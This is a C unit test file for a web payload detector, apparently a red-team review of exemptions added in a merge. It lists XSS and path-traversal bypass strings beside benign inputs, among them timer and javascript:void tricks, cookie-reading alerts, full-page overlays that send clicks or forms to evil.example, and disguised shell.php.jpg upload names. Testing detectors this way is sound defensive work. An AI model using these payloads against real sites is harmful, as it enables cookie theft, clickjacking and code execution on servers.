/* test_payload_r9b.c - issue 20, thirtieth session, reviewer r9b: the
 * merge 8e9837b read as an attacker. Each row is a way around an
 * exemption the merge added (XSS: a timer given a function's name;
 * traversal: a web server's served assets) that still does harm, with
 * the benign values the exemption was made for beside it. Attacks draw
 * their kind as a query value and a form body and reach the kill line
 * (payload_rt_table.h). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define X PAYLOAD_XSS
#define T PAYLOAD_TRAVERSAL
#define N PAYLOAD_NONE

/* a timer passes its arguments after the delay to the function: a
 * timer or a writer given a string that way evaluates it */
static void test_timer_extra_args(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"setTimeout(fn, 1000)", N},
		{"setInterval(this.tick, 500)", N},
		{"setTimeout(resolve, ms)", N},
		{"setTimeout(setTimeout, 0, 'alert(1)')", X},
		{"setTimeout(top.setTimeout,0,'alert(1)')", X},
		{"setInterval(execScript, 0, 'alert(1)')", X},
		{"setTimeout(setInterval, 0, `alert(1)`)", X},
	};
	rt_run_kill("timer args", X, t, sizeof(t) / sizeof(t[0]));
}

/* a docroot's image is served to anyone, but not a script named as
 * one (an upload an include runs) nor a name cut by ';' '?' '#' */
static void test_served_asset_disguised(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"/var/www/html/uploads/avatar.jpg", N},
		{"c:\\inetpub\\wwwroot\\images\\logo.png", N},
		{"/var/www/html/wp-content/uploads/2024/01/shell.php.jpg", T},
		{"/var/www/html/images/x.php?.png", T},
		{"/var/www/html/images/x.php#.css", T},
		{"c:\\xampp\\htdocs\\uploads\\shell.php.jpg", T},
		{"c:\\inetpub\\wwwroot\\up\\x.asp;.jpg", T},
	};
	rt_run_kill("served asset", T, t, sizeof(t) / sizeof(t[0]));
}

/* a Markdown no-op link (javascript:void(0)) calls nothing; anything
 * after the void still does */
static void test_markdown_void_link(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"See [the docs](javascript:void(0)) for details", N},
		{"[menu](javascript: void 0;)", N},
		{"[a](javascript:void(0),alert(1))", X},
		{"[a](javascript:void(alert(1)))", X},
		{"[a](javascript:void(0);alert(document.cookie))", X},
	};
	rt_run_kill("md void", X, t, sizeof(t) / sizeof(t[0]));
}

/* a link or form over the whole page that sends its clicks or keys to
 * the site itself (a modal's close link, its login form) takes nothing */
static void test_overlay_same_site(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<a href=\"/close\" style=\"position:fixed;top:0;left:0;right:0;bottom:0;z-index:1\" "
		 "aria-label=\"Close overlay\"></a>", N},
		{"<div class=\"modal\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">"
		 "<form action=\"/login\"><input type=password></form></div>", N},
		{"<a href=//evil.com style=\"position:fixed;inset:0\">x</a>", X},
		{"<a href=\"https://evil.example/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>", X},
		{"<div style=\"position:fixed;inset:0\"><form action=\"https://evil.example/c\"><input name=q></form></div>", X},
		{"<a href=\"/\\evil.example/\" style=\"position:fixed;inset:0\">x</a>", X},
		{"<a href=\"https:evil.example\" style=\"position:fixed;inset:0\">x</a>", X},
	};
	rt_run_kill("overlay", X, t, sizeof(t) / sizeof(t[0]));
}

/* any XML type (a subtype ending "+xml") is rendered by the XML
 * parser, where an XHTML script element runs; a JSON or PDF upload as a
 * data URL is not markup. ('+' spelt %2B: a query's '+' is a blank.) */
static void test_data_url_xml_types(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"data:application/json;base64,eyJhIjoxfQ==", N},
		{"data:application/pdf;base64,JVBERi0xLjQK", N},
		{"data:application/mathml%2Bxml;base64,PHg6c2NyaXB0IHhtbG5zOng9Imh0dHA6Ly93d3cudzMub3JnLzE5OTkveGh0bWwiPmFsZXJ0KDEpPC94OnNjcmlwdD4=", X},
		{"data:application/vnd.foo%2Bxml;base64,PHg6c2NyaXB0IHhtbG5zOng9Imh0dHA6Ly93d3cudzMub3JnLzE5OTkveGh0bWwiPmFsZXJ0KDEpPC94OnNjcmlwdD4=", X},
		{"data:application/xslt%2Bxml;base64,PHg6c2NyaXB0IHhtbG5zOng9Imh0dHA6Ly93d3cudzMub3JnLzE5OTkveGh0bWwiPmFsZXJ0KDEpPC94OnNjcmlwdD4=", X},
	};
	rt_run_kill("xml data url", X, t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_timer_extra_args),
		cmocka_unit_test(test_served_asset_disguised),
		cmocka_unit_test(test_markdown_void_link),
		cmocka_unit_test(test_overlay_same_site),
		cmocka_unit_test(test_data_url_xml_types),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
